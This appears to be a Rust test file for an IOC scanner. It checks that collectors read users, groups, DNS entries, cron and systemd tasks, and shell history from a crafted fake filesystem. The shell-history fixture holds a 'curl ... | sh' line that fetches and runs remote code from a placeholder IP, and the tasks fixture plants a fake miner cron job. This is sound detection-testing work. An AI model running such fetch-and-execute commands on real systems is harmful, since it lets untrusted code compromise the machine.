//! UserItem, GroupItem, DnsEntryItem, TaskItem and ShellHistoryItem read
//! from crafted files under a temporary host root.

use crate::collect_util::{matches, observe, FakeRoot};
use ioc_scan::collect::{
    dns::DnsCollector,
    shell_history::ShellHistoryCollector,
    task::TaskCollector,
    user::{GroupCollector, UserCollector},
};

fn accounts() -> FakeRoot {
    let r = FakeRoot::new();
    r.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nioc_bob:x:4242:4243:Bob Test,,,:/home/ioc_bob:/bin/zsh\nsvc:x:998:998::/nonexistent:/usr/sbin/nologin\n")
        .write("/etc/group", "root:x:0:\nioc_bob:x:4243:\nioc_ops:x:5000:ioc_bob,root\n")
        .write("/etc/shadow", "root:$6$secret$hash:19000:0:99999:7:::\nioc_bob:!$6$bobsalt$bobhash:19500:0:99999:7:::\n");
    r
}

#[test]
fn user_observation_has_the_passwd_fields_and_no_hash() {
    let r = accounts();
    let (obs, stats) = observe(&UserCollector, &r.root());
    assert_eq!(stats.error_count(), 0, "{:?}", stats.errors);
    assert_eq!(obs.len(), 3);
    let bob = obs.iter().find(|o| o.get("UserItem/Username") == ["ioc_bob"]).unwrap();
    assert_eq!(bob.one("UserItem/userid"), "4242");
    assert_eq!(bob.one("UserItem/homedirectory"), "/home/ioc_bob");
    assert_eq!(bob.one("UserItem/shell"), "/bin/zsh");
    assert_eq!(bob.one("UserItem/fullname"), "Bob Test");
    assert_eq!(bob.get("UserItem/grouplist/groupname"), ["ioc_bob", "ioc_ops"]);
    assert_eq!(bob.one("UserItem/lockedout"), "true");
    assert_eq!(bob.one("UserItem/disabled"), "true");
    let everything = format!("{obs:?}");
    assert!(
        !everything.contains("bobhash") && !everything.contains("$6$"),
        "a password hash leaked"
    );
}

#[test]
fn user_ioc_matches_only_the_crafted_user() {
    let r = accounts();
    let hits = matches(
        Box::new(UserCollector),
        &r.root(),
        &[
            ("UserItem/Username", "is", "string", "ioc_bob"),
            ("UserItem/userid", "is", "int", "4242"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "user");
    assert_eq!(hits[0].fields["name"], "ioc_bob");
    assert_eq!(hits[0].fields["uid"], 4242);
}

#[test]
fn group_lists_members_and_primary_users() {
    let r = accounts();
    let (obs, _) = observe(&GroupCollector, &r.root());
    let bobs = obs.iter().find(|o| o.get("GroupItem/GroupName") == ["ioc_bob"]).unwrap();
    assert_eq!(bobs.get("GroupItem/userlist/username"), ["ioc_bob"]);
    let hits = matches(
        Box::new(GroupCollector),
        &r.root(),
        &[
            ("GroupItem/userlist/username", "is", "string", "ioc_bob"),
            ("GroupItem/gid", "is", "int", "5000"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].fields["name"], "ioc_ops");
}

#[test]
fn dns_entries_from_hosts_and_resolv_conf() {
    let r = FakeRoot::new();
    r.write(
        "/etc/hosts",
        "127.0.0.1 localhost\n203.0.113.66 update.ioc-test.example cdn.ioc-test.example\n",
    )
    .write("/etc/resolv.conf", "nameserver 198.51.100.53\nsearch corp.example\n");
    let (obs, stats) = observe(&DnsCollector, &r.root());
    assert_eq!(stats.error_count(), 0);
    assert_eq!(obs.len(), 5);
    let upd = obs
        .iter()
        .find(|o| o.get("DnsEntryItem/Host") == ["update.ioc-test.example"])
        .unwrap();
    assert_eq!(upd.get("DnsEntryItem/RecordData/IPv4Address"), ["203.0.113.66"]);
    assert_eq!(upd.one("DnsEntryItem/RecordType"), "A");
    let hits = matches(
        Box::new(DnsCollector),
        &r.root(),
        &[
            ("DnsEntryItem/RecordData/IPv4Address", "is", "IP", "203.0.113.66"),
            ("DnsEntryItem/Host", "contains", "string", "update"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "dns");
    assert_eq!(hits[0].fields["location"], "/etc/hosts:2");
    let ns = matches(
        Box::new(DnsCollector),
        &r.root(),
        &[("DnsEntryItem/RecordData/IPv4Address", "is", "IP", "198.51.100.53")],
    );
    assert_eq!(ns.len(), 1);
    assert_eq!(ns[0].fields["record_type"], "NS");
}

fn tasks() -> FakeRoot {
    let r = accounts();
    r.write(
        "/etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )
    .write(
        "/var/spool/cron/crontabs/ioc_bob",
        "# m h dom mon dow command\n*/7 3 * * 1 /tmp/.ioc_miner --pool x\n",
    )
    .write("/tmp/.ioc_miner", "#!/bin/sh\necho mining\n")
    .write(
        "/etc/systemd/system/ioc-evil.timer",
        "[Unit]\nDescription=x\n[Timer]\nOnCalendar=*-*-* 04:00:00\nOnBootSec=5min\n",
    )
    .write(
        "/etc/systemd/system/ioc-evil.service",
        "[Service]\nUser=ioc_bob\nExecStart=-/opt/ioc-evil/run --quiet\n",
    )
    .write("/etc/cron.daily/ioc-daily", "#!/bin/sh\n");
    r
}

#[test]
fn task_observations_of_cron_and_timers() {
    let r = tasks();
    let (obs, stats) = observe(&TaskCollector, &r.root());
    assert_eq!(stats.error_count(), 0, "{:?}", stats.errors);
    let miner = obs
        .iter()
        .find(|o| o.get("TaskItem/userName") == ["ioc_bob"] && o.get("TaskItem/crontabMinute") == ["*/7"])
        .unwrap();
    assert_eq!(miner.one("TaskItem/crontabHour"), "3");
    assert_eq!(miner.one("TaskItem/crontabDayOfWeek"), "1");
    assert_eq!(miner.one("TaskItem/path"), "/tmp/.ioc_miner");
    assert_eq!(miner.one("TaskItem/crontabPath"), "/var/spool/cron/crontabs/ioc_bob");
    // Digest of the crafted program, computed through the Pending handshake.
    assert_eq!(miner.one("TaskItem/md5sum"), format!("{:x}", md5_of(b"#!/bin/sh\necho mining\n")));
    let timer = obs.iter().find(|o| o.get("TaskItem/Name") == ["ioc-evil.timer"]).unwrap();
    assert_eq!(timer.one("TaskItem/crontabCommand"), "/opt/ioc-evil/run --quiet");
    assert_eq!(timer.one("TaskItem/crontabPeriod"), "*-*-* 04:00:00");
    assert_eq!(timer.one("TaskItem/crontabEvent"), "OnBootSec=5min");
    assert_eq!(timer.one("TaskItem/userName"), "ioc_bob");
    assert!(obs
        .iter()
        .any(|o| o.get("TaskItem/Name") == ["ioc-daily"] && o.get("TaskItem/crontabPeriod") == ["daily"]));
}

fn md5_of(b: &[u8]) -> impl std::fmt::LowerHex {
    use md5::Digest;
    md5::Md5::digest(b)
}

#[test]
fn task_ioc_with_a_hash_matches_only_the_crafted_job() {
    let r = tasks();
    let md5 = format!("{:x}", md5_of(b"#!/bin/sh\necho mining\n"));
    let hits = matches(
        Box::new(TaskCollector),
        &r.root(),
        &[
            ("TaskItem/crontabCommand", "contains", "string", "ioc_miner"),
            ("TaskItem/md5sum", "is", "md5", &md5),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "task");
    assert_eq!(hits[0].fields["file"], "/var/spool/cron/crontabs/ioc_bob");
    assert_eq!(hits[0].fields["line"], 2);
    // A wrong digest matches nothing.
    let none = matches(
        Box::new(TaskCollector),
        &r.root(),
        &[
            ("TaskItem/crontabCommand", "contains", "string", "ioc_miner"),
            ("TaskItem/md5sum", "is", "md5", "00000000000000000000000000000000"),
        ],
    );
    assert!(none.is_empty());
}

#[test]
fn shell_history_of_each_user() {
    let r = accounts();
    r.write(
        "/home/ioc_bob/.zsh_history",
        ": 1700000000:0;ls\n: 1700000100:0;curl -s http://203.0.113.9/x | sh\n",
    )
    .own("/home/ioc_bob/.zsh_history", 4242, 4243)
    .write("/root/.bash_history", "id\n#1700000200\nwget http://203.0.113.9/y\n");
    let (obs, stats) = observe(&ShellHistoryCollector, &r.root());
    assert_eq!(stats.error_count(), 0, "{:?}", stats.errors);
    assert_eq!(obs.len(), 4);
    let curl = obs.iter().find(|o| o.one("ShellHistoryItem/Command").starts_with("curl")).unwrap();
    assert_eq!(curl.one("ShellHistoryItem/UserName"), "ioc_bob");
    assert_eq!(curl.one("ShellHistoryItem/Shell"), "zsh");
    assert_eq!(curl.one("ShellHistoryItem/FileOrder"), "2");
    assert_eq!(curl.one("ShellHistoryItem/Timestamp"), "1700000100");
    let hits = matches(
        Box::new(ShellHistoryCollector),
        &r.root(),
        &[
            ("ShellHistoryItem/Command", "contains", "string", "203.0.113.9"),
            ("ShellHistoryItem/UserName", "is", "string", "root"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "shell_history");
    assert_eq!(hits[0].fields["path"], "/root/.bash_history");
    assert_eq!(hits[0].fields["order"], 2);
}
